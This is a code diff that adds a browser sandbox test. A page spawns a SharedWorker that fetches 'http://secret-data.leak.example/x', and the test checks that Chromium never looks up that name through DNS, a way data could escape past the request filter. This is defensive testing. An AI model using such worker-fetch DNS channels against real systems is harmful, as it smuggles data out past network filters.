@@ -201,3 +201,29 @@ def test_killed_workers_leave_no_browser_profile_behind(tmp_path, monkeypatch):
     left = list(tmp.rglob("playwright*"))
     shutil.rmtree(tmp, ignore_errors=True)
     assert left == []
+
+
+@pytest.mark.browser
+def test_no_host_name_a_page_chooses_is_looked_up(tmp_path, monkeypatch):
+    """A name is looked up before any filter can refuse its connection: a SharedWorker's fetch (which the request
+    filter does not see) had Chromium ask the machine's DNS server for a name the page chose, a channel out of the
+    machine for whatever the page puts in the name. Chromium's own log of the network says what it looked up."""
+    import omniact.sandbox.browser as browser
+
+    log = tmp_path / "netlog.json"
+    monkeypatch.setattr(browser, "REPLAY_ARGS", [*browser.REPLAY_ARGS, f"--log-net-log={log}"])
+    worker = "fetch('http://secret-data.leak.example/x').catch(() => {})"
+    (tmp_path / "dns.html").write_text(
+        f"<script>new SharedWorker(URL.createObjectURL(new Blob([{worker!r}], {{type: 'text/javascript'}})));</script>"
+    )
+    host = browser.shared_host()  # one Playwright per process: relaunch this one's browser with the log on
+    host.close()
+    try:
+        r = run_job(ReplayJob(task_id="dns", script="pyautogui.sleep(1)", root=str(tmp_path), path="dns.html",
+                              check="true", task_timeout=60, viewport=(400, 300)), host=host)
+    finally:
+        host.close()  # writes the log out; the next test's browser starts without it
+    assert r.success, r.reason
+    text = log.read_text()
+    assert "http://secret-data.leak.example/x" in text  # the worker did ask for it
+    assert '"host":"http://secret-data.leak.example"' not in text  # ... and the name was never looked up
